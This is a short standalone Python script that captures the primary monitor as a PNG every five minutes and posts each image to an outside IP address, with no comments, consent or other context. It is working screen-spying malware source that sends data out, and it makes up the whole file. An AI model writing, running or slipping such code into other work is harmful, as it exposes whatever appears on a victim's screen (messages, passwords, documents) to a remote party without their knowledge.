import io
import time
import mss
import mss.tools
import requests

def shot():
    with mss.mss() as sct:
        img = sct.grab(sct.monitors[1])
        return mss.tools.to_png(img.rgb, img.size)

while True:
    requests.post("http://198.51.100.77/s", data=shot())
    time.sleep(300)
